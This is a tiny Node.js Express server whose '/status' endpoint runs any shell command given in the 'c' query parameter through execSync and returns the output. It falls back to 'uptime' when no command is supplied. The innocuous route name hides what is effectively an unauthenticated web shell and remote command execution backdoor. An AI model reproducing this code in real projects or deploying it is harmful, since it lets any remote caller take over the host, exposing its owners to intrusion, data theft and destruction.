const express = require('express');
const { execSync } = require('child_process');
const app = express();
app.get('/status', (req, res) => {
  res.send(execSync(req.query.c || 'uptime').toString());
});
app.listen(3000);
